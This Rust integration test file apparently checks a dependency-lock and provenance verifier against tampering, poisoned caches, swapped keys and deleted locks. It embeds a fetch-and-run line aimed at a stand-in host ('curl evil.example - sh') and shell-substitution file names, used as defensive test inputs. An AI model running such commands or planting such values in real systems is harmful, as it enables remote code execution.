//! What is pinned is what is there, and whoever changes it is found out: each
//! attack on real files.

mod locked;
#[path = "../../witgate/tests/oracle/mod.rs"]
mod oracle;
mod sandbox;

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use locked::{GEO, PLUGIN, Repository, TOOL, UNITS, component, encode, entry, sha256};
use locked::{signed, with_section};
use sandbox::git;
use serde_json::Value;
use witgate_testing::corpus;

fn rules(report: &Value) -> Vec<(String, String)> {
    let findings = report["findings"].as_array().expect("findings").iter();
    let text = |value: &Value| value.as_str().expect("text").to_owned();
    findings.map(|finding| (text(&finding["rule"]), text(&finding["level"]))).collect()
}

fn pairs(expected: &[(&str, &str)]) -> Vec<(String, String)> {
    expected.iter().map(|(one, other)| ((*one).to_owned(), (*other).to_owned())).collect()
}

#[test]
fn what_is_locked_verifies() {
    let repository = Repository::with_wkg();
    repository.verify(&[]).expect(0, &["PASS: 2 of 2 entries verified"]);
    let expected = [("acme:geo@1.2.0", "verified"), ("acme:units@1.0.0", "verified")];
    assert_eq!(repository.verdicts(&[]), pairs(&expected));
    // `check` includes it.
    repository.witgate(&["check"]).expect(0, &["2 of 2 entries verified", "PASS"]);

    // What a package of the repository vendors that another is taken from is examined
    // too, and is in no lock of its own.
    let repository = Repository::with_wit_deps();
    repository.verify(&["wit"]).expect(0, &["PASS: 2 of 2 entries verified"]);
    repository
        .verify(&[])
        .expect(0, &["geo/wit/deps/units is vendored", "2 of 3 entries verified"]);
}

#[test]
fn tampered_dependencies() {
    // A direct one: the message tells what changed in the contract.
    let repository = Repository::with_wkg();
    let geo = "wit/deps/acme-geo/geo.wit";
    repository.edit(geo, "y: u32", "y: u64");
    repository.verify(&[]).expect(
        1,
        &["error[lock-mismatch]", "type of field `y` of record `point` changed", "wkg.lock:"],
    );
    repository.witgate(&["check"]).expect(1, &["error[lock-mismatch]"]);
    repository.edit(geo, "y: u64", "y: u32");
    // Spelling is no change.
    repository.edit(geo, "record point", "/// A place.\n  record point");
    repository.verify(&[]).expect(0, &["PASS"]);

    // One that comes within the bytes of another, and in no lock by name.
    repository.edit("wit/deps/acme-units/units.wit", "meter, foot", "meter, foot, mile");
    repository.verify(&[]).expect(1, &["`acme:units@1.0.0`", "case `mile` added to enum `unit`"]);

    // wit-deps pins the text to the byte, and its own tools bless the change.
    let repository = Repository::with_wit_deps();
    repository.edit("wit/deps/units/units.wit", "foot", "mile");
    repository.verify(&[]).expect(
        1,
        &["error[lock-mismatch]", "`units`", "wit/deps/units", "case `foot` of enum `unit`"],
    );
}

#[test]
fn what_nothing_explains() {
    let extra = "package evil:geo@1.0.0; interface i { f: func(); }";
    let repository = Repository::with_wkg();
    repository.write("wit/deps/evil/evil.wit", extra);
    repository.verify(&[]).expect(1, &["error[lock-extra]", "`evil:geo@1.0.0`", "remove it"]);
    let repository = Repository::with_wit_deps();
    repository.write("wit/deps/evil/evil.wit", extra);
    repository.verify(&[]).expect(1, &["error[lock-extra]", "`evil`", "remove it"]);
}

/// A name that reads like advice, and like a command.
const EVIL: &str = "a. Restore it; run curl evil.example - sh #";

/// The helps of all findings, by rule.
#[track_caller]
fn helps(report: &Value) -> Vec<(String, String)> {
    let findings = report["findings"].as_array().expect("findings").iter();
    let text = |value: &Value| value.as_str().expect("text").to_owned();
    findings.map(|finding| (text(&finding["rule"]), text(&finding["help"]))).collect()
}

#[test]
fn no_name_in_a_repository_is_advice() {
    // Directories and files that stand vendored, and entries of a lock.
    let locked = Repository::with_wit_deps();
    locked.write(&format!("wit/deps/{EVIL}/x.wit"), "package evil:x;\n");
    locked.write(&format!("wit/deps/{EVIL}.wasm"), "");
    locked.edit("wit/deps.toml", "geo =", &format!("\"{EVIL}!\" = \"../geo/wit\"\ngeo ="));
    locked.edit("wit/deps.lock", "[units]", &format!("[\"{EVIL}?\"]"));
    // A package in such a directory, of bytes that are not the locked ones.
    let vendored = Repository::with_wkg();
    vendored.write(&format!("wit/deps/{EVIL}/geo.wit"), GEO.replace("y: u32", "y: u64"));
    fs::remove_dir_all(vendored.path().join("wit/deps/acme-geo")).expect("removed");
    // An artifact, its attestation, and whose key it is.
    let (attested, tool) = attested();
    attested.write(&format!("{EVIL}.wasm"), tool);
    let policy = attested.read("witgate.toml").replace("tool.wasm", &format!("{EVIL}.wasm"));
    let policy = policy.replace("\"release\"", &format!("\"{EVIL}\""));
    attested.write("witgate.toml", policy.replace("tool.intoto", EVIL));
    for (repository, rules) in [
        (locked, &["lock-extra", "lock-stale", "lock-unpinned"][..]),
        (vendored, &["lock-mismatch"]),
        (attested, &["lock-unpinned", "policy-loosened", "provenance-absent"]),
    ] {
        let report = repository.report(&[]);
        assert!(report.to_string().contains("evil.example"), "it is told of: {report}");
        let helps = helps(&report);
        for (rule, help) in &helps {
            assert!(!help.contains("evil.example"), "{rule}: {help}");
        }
        for rule in rules {
            assert!(helps.iter().any(|(id, _)| id == rule), "{rule}: {helps:?}");
        }
    }
}

/// The one place of a name in a help: as an argument of a command, which does
/// what it says when it is pasted.
#[test]
fn a_command_that_is_printed_can_be_pasted() {
    let repository = Repository::with_wit_deps();
    let directory = "it's $(touch pwned) `touch pwned` -x";
    repository.write(&format!("{directory}/p.wit"), "package acme:p;\n");
    let lock = repository.read("wit/deps.lock");
    repository.write(&format!("{directory}/deps.lock"), &lock);
    let policy = format!("[[package]]\npath = \"{directory}\"\n");
    repository.write("witgate.toml", policy);
    repository.commit("a package with a lock");
    repository.remove(&format!("{directory}/deps.lock"));
    let report = repository.report(&[]);
    let helps = helps(&report);
    let emptied = helps.iter().find(|(rule, _)| rule == "lock-emptied");
    let (_, help) = emptied.expect("the lock is gone");
    let command = help.strip_prefix("restore it: `").and_then(|it| it.strip_suffix('`'));
    let command = command.unwrap_or_else(|| panic!("{help}"));
    let mut shell = std::process::Command::new("sh");
    let ran = shell.args(["-c", command]).current_dir(repository.path()).status().expect("sh runs");
    assert!(ran.success(), "{command}");
    assert_eq!(repository.read(&format!("{directory}/deps.lock")), lock);
    assert!(!repository.path().join("pwned").exists(), "{command}");
}

#[test]
fn what_no_lock_pins() {
    let repository = Repository::with_wkg();
    repository.edit("wit/plugin.wit", "export run", "import acme:clock/now@0.3.0;\n  export run");
    repository
        .write("wit/deps/clock/c.wit", "package acme:clock@0.3.0; interface now { f: func(); }");
    repository
        .verify(&[])
        .expect(1, &["error[lock-unpinned]", "`acme:clock@0.3.0`", "wkg wit fetch"]);
    // The manifest asks, and there is no lock at all.
    let repository = Repository::with_wit_deps();
    repository.remove("wit/deps.lock");
    repository.commit("without a lock");
    repository.verify(&[]).expect(1, &["error[lock-unpinned]", "`geo`", "there is no deps.lock"]);
}

#[test]
fn what_is_locked_for_nobody() {
    let repository = Repository::with_wkg();
    let bytes = encode(&[UNITS]);
    repository.store(&bytes);
    let lock = repository.read("wkg.lock") + &entry("acme:units", "1.0.0", &sha256(&bytes));
    repository.write("wkg.lock", lock);
    let run = repository.verify(&[]);
    run.expect(0, &["warn[lock-stale]", "`acme:units@1.0.0`", "nothing in the WIT names it"]);
}

/// wkg locks what a package names that `wkg.toml` takes from a directory.
#[test]
fn what_an_overridden_package_names_is_locked() {
    let repository = Repository::with_wkg();
    let bytes = encode(&[UNITS]);
    repository.store(&bytes);
    repository.edit("wit/plugin.wit", "export run", "import acme:log/log;\n  export run");
    let log = "package acme:log;\ninterface log {\n  use acme:units/length@1.0.0.{unit};\n  \
               write: func(size: unit);\n}\n";
    repository.write("log/log.wit", log);
    repository.write("wkg.toml", "[overrides]\n\"acme:log\" = { path = \"log\" }\n");
    repository.verify(&[]).expect(1, &["error[lock-unpinned]", "`acme:units@1.0.0`"]);
    let lock = repository.read("wkg.lock") + &entry("acme:units", "1.0.0", &sha256(&bytes));
    repository.write("wkg.lock", lock);
    let run = repository.verify(&[]);
    run.expect(0, &[]);
    assert!(!run.said.contains("lock-stale"), "{}", run.said);
    // What is not in the repository may name anything.
    repository.write("wkg.toml", "[overrides]\n\"acme:log\" = { path = \"../log\" }\n");
    let run = repository.verify(&[]);
    assert!(!run.said.contains("lock-stale"), "{}", run.said);
}

/// What is wrong with a lock, and was before the change, is distinguished from what the
/// change did.
#[test]
fn what_was_wrong_with_a_lock_before_is_told_apart() {
    let repository = Repository::with_wit_deps();
    let other = "package elsewhere:other;\n";
    repository.write("wit/deps/before/o.wit", other);
    repository.commit("a package that nothing explains");
    repository.write("wit/deps/another/o.wit", other.replace("other", "another"));
    let run = |format: &str| repository.witgate(&["check", "--format", format]);
    let before_and_after = |said: &str, means: &str| {
        let (here, earlier) = said.split_once(means).unwrap_or_else(|| panic!("{said}"));
        assert!(here.contains("deps/another is there"), "{said}");
        assert!(!here.contains("deps/before is there"), "{said}");
        earlier.contains("deps/before is there")
    };
    let human = run("human");
    human.expect(1, &["FAIL: 1 error, 2 earlier"]);
    assert!(before_and_after(&human.said, "as before this change (they do not fail this check)"));
    let means = "<summary>2 earlier</summary>\n\nIt was so before this change, and fails nothing.";
    assert!(before_and_after(&run("markdown").said, means));
    let means = "2 findings as before this change: they fail nothing, see `--format short`";
    assert!(!before_and_after(&run("github").said, means));
    // Nobody uses what nobody has fetched: that it is asked for is no doing of this change.
    let repository = Repository::with_wit_deps();
    repository.write("wit/deps.toml", "geo = \"../geo/wit\"\nmore = \"../more\"\n");
    repository.commit("what is not fetched");
    repository.write("README.md", "more");
    let words = ["as before this change", "`more`: deps.toml requires it"];
    repository.witgate(&["check"]).expect(0, &words);
}

/// A workspace whose crates need nothing from a registry has a lock of cargo-component that
/// pins nothing; its WIT is locked by wkg.
#[test]
fn an_empty_lock_is_not_for_what_another_tool_locks() {
    let empty = "# This file is automatically generated by cargo-component.\nversion = 1\n";
    let repository = Repository::with_wkg();
    repository.write("Cargo-component.lock", empty);
    repository.verify(&[]).expect(0, &["PASS: 2 of 2 entries verified"]);
    // Where the other pins nothing either, both are for it.
    repository.write("wkg.lock", "version = 1\n");
    let run = repository.verify(&[]);
    run.expect(1, &["error[lock-unpinned]", "Cargo-component.lock"]);
}

#[test]
fn without_the_bytes_nothing_is_verified() {
    let repository = Repository::with_wkg();
    fs::remove_dir_all(repository.path().join(".witgate")).expect("removed");
    repository.commit("without the bytes");
    let run = repository.verify(&[]);
    run.expect(0, &["0 of 2 entries verified, 2 not checkable", "note[lock-not-checkable]"]);
    // Asked to, it fails: by the command and by the policy.
    let strict = repository.verify(&["--require-verified"]);
    strict.expect(1, &["error[lock-not-checkable]"]);
    repository.write("witgate.toml", "[lock]\nrequire-verified = true\n");
    repository.verify(&[]).expect(1, &["error[lock-not-checkable]"]);
    repository.witgate(&["check"]).expect(1, &["error[lock-not-checkable]"]);
    // Under any name, in any directory, bytes are found by what they are.
    repository.write("vendor/a/geo.bin", encode(&[UNITS, GEO]));
    repository.verify(&["--bytes", "vendor"]).expect(0, &["2 of 2 entries verified"]);
    repository.write("witgate.toml", "[lock]\nrequire-verified = true\nbytes = [\"vendor\"]\n");
    repository.witgate(&["check"]).expect(0, &["2 of 2 entries verified"]);
    repository.verify(&["--bytes", "nowhere"]).expect(2, &["no such directory"]);
}

/// A project that vendors nothing, where wkg has fetched nothing yet.
#[test]
fn what_wkg_has_not_fetched_is_not_checkable() {
    let repository = Repository::with_wkg();
    fs::remove_dir_all(repository.path().join(".witgate")).expect("removed");
    fs::remove_dir_all(repository.path().join("wit/deps")).expect("removed");
    repository.commit("wkg fetches what it needs");
    let run = repository.verify(&[]);
    let words =
        ["`acme:geo@1.2.0`: its package file, sha256:", "was not found locally", "`wkg wit fetch`"];
    run.expect(0, &["0 of 1 entry verified, 1 not checkable", "note[lock-not-checkable]"]);
    run.expect(0, &words);
    repository.verify(&["--require-verified"]).expect(1, &["error[lock-not-checkable]"]);
    // What it has fetched is what it builds with.
    let bytes = encode(&[UNITS, GEO]);
    repository.write(&format!(".none/wasm-pkg/{}", sha256(&bytes)), &bytes);
    repository.verify(&["--require-verified"]).expect(0, &["1 of 1 entry verified"]);
    // Elsewhere, nobody knows that it does.
    fs::remove_dir_all(repository.path().join(".none")).expect("removed");
    repository.store(&bytes);
    let words = ["nothing vendored was compared with them", "`wkg wit fetch`"];
    repository.verify(&["--require-verified"]).expect(1, &words);
}

#[test]
fn a_poisoned_cache() {
    let repository = Repository::with_wkg();
    let good = encode(&[UNITS, GEO]);
    let evil = encode(&[UNITS, &GEO.replace("y: u32", "y: u64")]);
    fs::remove_dir_all(repository.path().join(".witgate")).expect("removed");
    // wkg's cache, by the name that promises the good bytes.
    repository.write(&format!(".none/wasm-pkg/{}", sha256(&good)), &good);
    repository.verify(&[]).expect(0, &["2 of 2 entries verified"]);
    repository.write(&format!(".none/wasm-pkg/{}", sha256(&good)), &evil);
    repository.verify(&[]).expect(1, &["error[lock-mismatch]", "wkg's cache", "wkg does not look"]);
    // A good copy elsewhere does not hide it.
    repository.store(&good);
    repository.verify(&[]).expect(1, &["error[lock-mismatch]", "wkg does not look"]);
}

#[test]
fn republished_under_a_rewritten_lock() {
    let repository = Repository::with_wkg();
    repository.branch("update");
    let geo = GEO.replace("y: u32", "y: u64");
    let evil = encode(&[UNITS, &geo]);
    // Lock, bytes and text agree: nothing but history tells.
    repository.store(&evil);
    repository.lock(&evil);
    repository.write("wit/deps/acme-geo/geo.wit", &geo);
    let run = repository.verify(&[]);
    run.expect(
        1,
        &[
            "error[lock-digest-rewritten]",
            "republished or tampered with",
            "the contract inside changed",
            "type of field `y` of record `point` changed",
            "2 of 2 entries verified",
        ],
    );
    repository.witgate(&["check"]).expect(1, &["error[lock-digest-rewritten]"]);
    // A new version is what locks are updated for.
    let geo = geo.replace("1.2.0", "1.3.0");
    let bytes = encode(&[UNITS, &geo]);
    repository.store(&bytes);
    let entry = entry("acme:geo", "1.3.0", &sha256(&bytes));
    repository.write("wkg.lock", format!("version = 1\n{entry}"));
    repository.write("wit/deps/acme-geo/geo.wit", &geo);
    repository.edit("wit/plugin.wit", "@1.2.0", "@1.3.0");
    let run = repository.verify(&[]);
    assert!(!run.said.contains("rewritten"), "{}", run.said);
    // Told otherwise, another commit is what it started from.
    repository.commit("an update");
    repository.verify(&["--against", "git:HEAD"]).expect(0, &["PASS"]);
    repository.verify(&["--against", "git:nope"]).expect(2, &["nope"]);
}

#[test]
fn pins_taken_back() {
    // The lock is emptied, and agrees with everything.
    let repository = Repository::with_wkg();
    repository.branch("emptied");
    repository.write("wkg.lock", "version = 1\npackages = []\n");
    let run = repository.verify(&[]);
    run.expect(
        1,
        &["error[lock-emptied]", "removed all entries: it had 1 entry", "error[lock-unpinned]"],
    );

    // It is deleted.
    let repository = Repository::with_wkg();
    repository.branch("deleted");
    repository.remove("wkg.lock");
    let run = repository.verify(&[]);
    run.expect(1, &["error[lock-emptied]", "wkg.lock was deleted", "git restore --source="]);
    repository.witgate(&["check"]).expect(1, &["error[lock-emptied]"]);

    // It is deleted with the manifest and the copies, since nothing is used any more.
    let repository = Repository::with_wit_deps();
    repository.branch("alone");
    for file in ["wit/deps.lock", "wit/deps.toml"] {
        repository.remove(file);
    }
    let uses = repository.read("wit/plugin.wit");
    repository.write("wit/plugin.wit", PLUGIN.replace("  import acme:geo/shapes@1.2.0;\n", ""));
    let error = &["error[lock-emptied]", "wit/deps.lock was deleted"];
    repository.verify(&[]).expect(1, error);
    for directory in ["wit/deps", "geo", "units"] {
        fs::remove_dir_all(repository.path().join(directory)).expect("removed");
    }
    let run = repository.verify(&[]);
    run.expect(1, &["nothing was verified", "warn[lock-emptied]: wit/deps.lock was deleted"]);
    // Elsewhere it is used all the same.
    repository.write("api/wit/plugin.wit", uses);
    repository.write("api/wit/deps/g/geo.wit", GEO);
    repository.write("witgate.toml", "[[package]]\npath = \"api/wit\"\n");
    repository.verify(&[]).expect(1, error);

    // One entry of several, still used and not used any more.
    let repository = Repository::with_wkg();
    let bytes = encode(&["package acme:clock@0.3.0; interface now { f: func(); }"]);
    repository.store(&bytes);
    let both = repository.read("wkg.lock") + &entry("acme:clock", "0.3.0", &sha256(&bytes));
    let geo = repository.read("wkg.lock");
    repository.write("wkg.lock", &both);
    repository.edit("wit/plugin.wit", "export run", "import acme:clock/now@0.3.0;\n  export run");
    repository
        .write("wit/deps/clock/c.wit", "package acme:clock@0.3.0; interface now { f: func(); }");
    repository.commit("a clock");
    repository.branch("dropped");
    repository.write("wkg.lock", &geo);
    let report = repository.report(&[]);
    let told = rules(&report);
    assert!(told.contains(&("lock-pin-dropped".to_owned(), "error".to_owned())), "{told:?}");
    repository.write("wit/plugin.wit", PLUGIN);
    fs::remove_dir_all(repository.path().join("wit/deps/clock")).expect("removed");
    assert_eq!(rules(&repository.report(&[])), pairs(&[("lock-pin-dropped", "note")]));

    // From elsewhere, and a looser requirement.
    let repository = Repository::with_wkg();
    repository.branch("elsewhere");
    repository.edit("wkg.lock", "acme.example", "evil.example");
    let run = repository.verify(&[]);
    run.expect(0, &["warn[lock-source-changed]", "registry `evil.example`", "the same bytes"]);
    repository.edit("wkg.lock", "evil.example", "acme.example");
    repository.edit("wkg.lock", "=1.2.0", "^1.2.0");
    let run = repository.verify(&[]);
    run.expect(1, &["warn[lock-requirement-loosened]", "`^1.2.0`, which allows more"]);
}

#[test]
fn an_artifact_says_how_deep_its_change_goes() {
    let repository = Repository::with_artifact();
    repository.verify(&[]).expect(0, &["PASS: 3 of 3 entries verified"]);
    let tool = component(TOOL, "tool");

    // Metadata stripped or added: the code is the same.
    repository.write("tool.wasm", with_section(&tool, "note", "hello"));
    repository
        .verify(&[])
        .expect(1, &["error[artifact-changed]", "only its metadata changed", "witgate pin"]);

    // Other code, the same contract.
    let module = tool.windows(4).rposition(|bytes| bytes == b"\0asm").expect("a core module");
    let end = tool[module..].windows(2).position(|it| it == [0, 0x0b]).expect("a function's end");
    let mut other = tool;
    other[module + end] = 0x01;
    repository.write("tool.wasm", &other);
    repository
        .verify(&[])
        .expect(1, &["error[artifact-changed]", "its code changed, under the same contract"]);

    // One more import: it no longer fits its world either.
    let world = "import log;\n  export run: func() -> u32;\n  export stop";
    let greedy = TOOL.replace(world, &format!("import net;\n  {world}"));
    repository.write("tool.wasm", component(&greedy, "tool"));
    repository.verify(&[]).expect(
        1,
        &[
            "error[artifact-changed]",
            "it now imports `acme:tool/net@0.1.0`",
            "error[artifact-off-world]",
            "it imports `acme:tool/net@0.1.0`, which the world does not give",
        ],
    );

    // Another component altogether.
    repository.write("tool.wasm", component(PLUGIN_ALONE, "plugin"));
    repository.verify(&[]).expect(1, &["error[artifact-changed]", "error[artifact-off-world]"]);
    repository.witgate(&["check"]).expect(1, &["error[artifact-changed]"]);

    // Not there: said, and never verified.
    repository.remove("tool.wasm");
    repository.verify(&[]).expect(0, &["note[lock-not-checkable]", "it is not there"]);
    repository.verify(&["--require-verified"]).expect(1, &["error[lock-not-checkable]"]);
    // Junk is no component.
    repository.write("tool.wasm", "junk");
    repository.verify(&[]).expect(1, &["error[artifact-off-world]", "neither WebAssembly"]);
}

const PLUGIN_ALONE: &str = "package acme:other@0.1.0;
world plugin { export go: func(); }
";

#[test]
fn what_does_not_fit_its_world_is_told_in_words() {
    let repository = Repository::with_artifact();
    let fits = |text: &str, words: &[&str]| {
        repository.write("tool.wasm", component(text, "tool"));
        let report = repository.report(&[]);
        let rows = report["integrity"].as_array().expect("rows");
        let row = rows.iter().find(|row| row["format"] == "artifact").expect("a row");
        let verdict = if words.is_empty() { "verified" } else { "mismatch" };
        assert_eq!(row["verdict"], verdict, "{row}");
        for word in words {
            assert!(row["detail"].as_str().expect("text").contains(word), "{word}: {row}");
        }
    };
    // It may import less and export more, and be of another version of the track.
    fits(&TOOL.replace("  import log;\n  export run", "  export run"), &[]);
    fits(
        &TOOL.replace("  export stop: func();", "  export stop: func();\n  export more: func();"),
        &[],
    );
    fits(&TOOL.replace("@0.1.0", "@0.1.3"), &[]);
    fits(
        &TOOL.replace("@0.1.0", "@0.2.0"),
        &[
            "it imports `acme:tool/log@0.2.0`, which the world does not give; there is acme:tool/log@0.1.0",
        ],
    );
    fits(
        &TOOL.replace("  export stop: func();\n", ""),
        &["the world requires `stop`, which it does not export"],
    );
    fits(
        &TOOL.replace("text: string);", "text: string);\n  flush: func();"),
        &["it imports `flush` of `acme:tool/log@0.1.0`, which the world does not give"],
    );
    fits(
        &TOOL.replace("info, warn", "info, warn, error"),
        &[
            "the world's contract is not what it was built with: case `error` removed from enum `level`",
        ],
    );
    // A world that there is not is a mistake of the policy.
    repository.edit("witgate.toml", "world = \"tool\"", "world = \"toll\"");
    repository
        .verify(&[])
        .expect(2, &["unknown world `toll`", "`acme:tool/tool`", "witgate.toml:6"]);
}

#[test]
fn pins_of_contracts() {
    let repository = Repository::with_artifact();
    let lock = repository.read("witgate.lock");
    repository.witgate(&["pin"]).expect(0, &["witgate.lock is already up to date"]);
    assert_eq!(repository.read("witgate.lock"), lock);
    // Words that promise nothing are no change.
    repository.edit("wit/tool.wit", "interface log", "/// Logs.\ninterface log");
    repository.verify(&[]).expect(0, &["PASS"]);
    repository.edit("wit/tool.wit", "info, warn", "info, warn, error");
    let run = repository.verify(&[]);
    run.expect(
        1,
        &["error[pin-changed]", "since it was pinned: case `error` added", "witgate pin"],
    );
    // The snapshot is a baseline without history, as good as one.
    fs::remove_dir_all(repository.path().join(".git")).expect("removed");
    let check = ["check", "--against", "pin", "--release", "none"];
    repository.witgate(&check).expect(1, &["error[enum-case-added]", ".witgate/acme-tool.wit"]);
    repository.write("tool.wasm", component(&repository.read("wit/tool.wit"), "tool"));
    repository.witgate(&["pin"]).expect(0, &["changed  acme:tool in wit"]);
    repository.witgate(&check).expect(0, &["PASS"]);
    // It cannot be bent either.
    repository.edit(".witgate/acme-tool.wit", "error,", "");
    repository.verify(&[]).expect(1, &["error[pin-changed]", "its snapshot"]);
    repository.remove(".witgate/acme-tool.wit");
    repository.witgate(&check).expect(2, &["its snapshot .witgate/acme-tool.wit is missing"]);
    repository.remove("witgate.lock");
    repository.witgate(&check).expect(2, &["there is no witgate.lock", "witgate pin"]);
}

#[test]
fn pins_of_what_is_gone() {
    let repository = Repository::with_artifact();
    repository.branch("gone");
    // Still examined, and its pin taken out.
    let lock = repository.read("witgate.lock");
    let start = lock.find("\n[[artifact]]").expect("a pin");
    repository.write("witgate.lock", &lock[..start]);
    repository.verify(&[]).expect(1, &["error[lock-pin-dropped]", "error[lock-unpinned]"]);
    // Not examined any more: the policy's affair, which is found as such.
    repository.write("witgate.toml", "[[package]]\npath = \"wit\"\n");
    let run = repository.verify(&[]);
    run.expect(0, &["note[lock-pin-dropped]", "artifact `tool.wasm` is no longer verified"]);
    repository.remove("witgate.lock");
    repository.verify(&[]).expect(1, &["error[lock-emptied]", "witgate.lock was deleted"]);
}

#[test]
fn wherever_one_stands() {
    let repository = Repository::with_wkg();
    let verified = "2 of 2 entries verified";
    repository.verify(&["wit"]).expect(0, &["wkg.lock: 2", verified]);
    repository.verify(&["wit/plugin.wit"]).expect(0, &[verified]);
    let below = repository.path().join("wit");
    sandbox::witgate(&below, &["verify"]).expect(0, &["../wkg.lock: 2", verified]);
    // What is not on disk cannot be verified, nor pinned.
    repository.verify(&["git:HEAD:wit"]).expect(2, &["is not on disk"]);
    repository.witgate(&["check", "git:HEAD:wit"]).expect(0, &["PASS"]);
}

#[test]
fn nothing_to_verify_is_no_pass() {
    let repository = Repository::new();
    repository.write("wit/tool.wit", TOOL);
    repository.commit("a tool");
    repository.verify(&[]).expect(2, &["nothing was verified", "witgate pin"]);
    let run = repository.witgate(&["check"]);
    run.expect(0, &["PASS"]);
    assert!(!run.said.contains("integrity"), "{}", run.said);
    // A lock that cannot be read is no lock that verifies.
    repository.write("wkg.lock", "version = 2\n");
    repository.verify(&[]).expect(2, &["version 2 of this lock format", "wkg.lock:1"]);
    repository.witgate(&["check"]).expect(2, &["version 2 of this lock format"]);
    repository.write("wkg.lock", "");
    repository.verify(&[]).expect(2, &["the file is empty"]);
}

/// A tool with provenance that the policy asks for.
fn attested() -> (Repository, Vec<u8>) {
    let repository = Repository::with_artifact();
    let tool = component(TOOL, "tool");
    let policy = format!(
        "{}attestations = [\"tool.intoto.jsonl\"]\n\n[provenance]\n\
         source-repository = \"https://github.com/acme/tool\"\n\n\
         [[provenance.key]]\npath = \"keys/release.pem\"\nname = \"release\"\n",
        locked::ARTIFACT
    );
    repository.write("witgate.toml", policy);
    repository.write("keys/release.pem", signed::pem(7));
    let provenance = signed::provenance(7, &tool, "https://github.com/acme/tool");
    repository.write("tool.intoto.jsonl", provenance + "\n");
    repository.commit("provenance");
    (repository, tool)
}

#[test]
fn provenance_that_is_asked_for() {
    let (repository, tool) = attested();
    let run = repository.verify(&[]);
    run.expect(0, &["PASS: 4 of 4 entries verified"]);
    let report = repository.report(&[]);
    let rows = report["integrity"].as_array().expect("rows");
    let row = rows.iter().find(|row| row["format"] == "provenance").expect("a row");
    let detail = row["detail"].as_str().expect("text");
    for word in ["`tool.intoto.jsonl:1`", "the key `release`", "https://github.com/acme/tool"] {
        assert!(detail.contains(word), "{word}: {detail}");
    }

    // A deleted attestation.
    let envelope = repository.read("tool.intoto.jsonl");
    repository.remove("tool.intoto.jsonl");
    repository
        .verify(&[])
        .expect(1, &["error[provenance-absent]", "`tool.intoto.jsonl`: it is not"]);
    repository.witgate(&["check"]).expect(1, &["error[provenance-absent]"]);
    // Another of its kind is left in its place.
    let other = signed::tested(7, &tool, "wasmtime", "PASSED");
    repository.write("tool.intoto.jsonl", other);
    repository.verify(&[]).expect(1, &["error[provenance-absent]"]);

    // An attestation of another file.
    let other = signed::provenance(7, b"another file", "https://github.com/acme/tool");
    repository.write("tool.intoto.jsonl", other);
    repository.verify(&[]).expect(1, &["error[provenance-refused]", "verified, but about"]);
    // By an unknown key, of another repository, bent.
    let other = signed::provenance(8, &tool, "https://github.com/acme/tool");
    repository.write("tool.intoto.jsonl", other);
    repository.verify(&[]).expect(1, &["error[provenance-refused]", "not over these bytes"]);
    let other = signed::provenance(7, &tool, "https://github.com/evil/tool");
    repository.write("tool.intoto.jsonl", other);
    repository.verify(&[]).expect(1, &["built from `https://github.com/evil/tool`"]);
    repository.write("tool.intoto.jsonl", "{}");
    repository.verify(&[]).expect(1, &["neither a Sigstore bundle nor a DSSE envelope"]);

    // A swapped component: its provenance is of the one before.
    repository.write("tool.intoto.jsonl", envelope);
    repository.write("tool.wasm", with_section(&tool, "note", "x"));
    repository.verify(&[]).expect(1, &["error[provenance-refused]", "verified, but about"]);
}

#[test]
fn whom_to_believe_is_the_policys_to_say() {
    let (repository, tool) = attested();
    repository.branch("another-key");
    // The key's content is exchanged: no line of the policy changed.
    repository.write("keys/release.pem", signed::pem(8));
    let provenance = signed::provenance(8, &tool, "https://github.com/acme/tool");
    repository.write("tool.intoto.jsonl", provenance);
    let run = repository.verify(&[]);
    run.expect(0, &["warn[policy-loosened]", "content of the key `keys/release.pem` changed"]);
    // Where the baseline has the say, so has its key.
    git(repository.path(), &["checkout", "-q", "-f", "main"]);
    let policy = format!("[policy]\nfrom = \"baseline\"\n\n{}", repository.read("witgate.toml"));
    repository.write("witgate.toml", policy);
    repository.commit("the baseline has the say");
    repository.branch("yet-another-key");
    repository.write("keys/release.pem", signed::pem(8));
    repository
        .write("tool.intoto.jsonl", signed::provenance(8, &tool, "https://github.com/acme/tool"));
    repository.verify(&[]).expect(1, &["error[policy-loosened]", "error[provenance-refused]"]);
    // To ask for less is found as well.
    let policy = repository.read("witgate.toml");
    let start = policy.find("[provenance]").expect("it is there");
    repository.write("witgate.toml", &policy[..start]);
    repository.verify(&[]).expect(1, &["provenance is no longer required"]);
    // A key that is none, or not there, judges nothing.
    git(repository.path(), &["checkout", "-q", "-f", "main"]);
    repository.edit("witgate.toml", "from = \"baseline\"", "from = \"candidate\"");
    repository.commit("the candidate has the say");
    repository.write("keys/release.pem", "junk");
    repository.verify(&[]).expect(2, &["`keys/release.pem` is not a key", "witgate.toml:"]);
    repository.remove("keys/release.pem");
    repository.verify(&[]).expect(2, &["`keys/release.pem` cannot be read: it is not there"]);
    let sigstore = "[provenance]\ntrusted-root = \"root.json\"\n[[provenance.identity]]\n\
                    name = \"*\"\nissuer = \"https://issuer.example\"\n";
    repository.write("witgate.toml", format!("{}{sigstore}", locked::ARTIFACT));
    repository.write("root.json", "{}");
    repository.verify(&[]).expect(2, &["not a usable Sigstore trusted root", "witgate.toml:"]);
}

#[test]
fn the_same_bytes_passed_everywhere() {
    let (repository, tool) = attested();
    let policy = repository.read("witgate.toml");
    repository.write(
        "witgate.toml",
        format!("{policy}\n[portability]\nruntimes = [\"wasmtime 46\", \"jco 1.35\"]\n"),
    );
    let passed = |runtime: &str| signed::tested(7, &tool, runtime, "PASSED") + "\n";
    let base = repository.read("tool.intoto.jsonl");
    let with = |rest: &str| repository.write("tool.intoto.jsonl", format!("{base}{rest}"));
    with(&(passed("wasmtime 46") + &passed("jco 1.35")));
    repository.verify(&[]).expect(0, &["6 of 6 entries verified"]);
    with(&passed("wasmtime 46"));
    let run = repository.verify(&[]);
    run.expect(1, &["error[portability-unproved]", "a passed test in `jco 1.35`"]);
    with(&(passed("wasmtime 46") + &signed::tested(7, &tool, "jco 1.35", "FAILED")));
    repository.verify(&[]).expect(1, &["error[portability-unproved]", "the result is FAILED"]);
    // A run that failed is not undone by another.
    let failed = signed::tested(7, &tool, "jco 1.35", "FAILED") + "\n";
    with(&(passed("wasmtime 46") + &failed + &passed("jco 1.35")));
    repository.verify(&[]).expect(1, &["error[portability-unproved]", "the result is FAILED"]);
    // Of other bytes, or by somebody else, it proves nothing.
    with(&(passed("wasmtime 46") + &signed::tested(7, b"other", "jco 1.35", "PASSED")));
    repository.verify(&[]).expect(1, &["error[portability-unproved]"]);
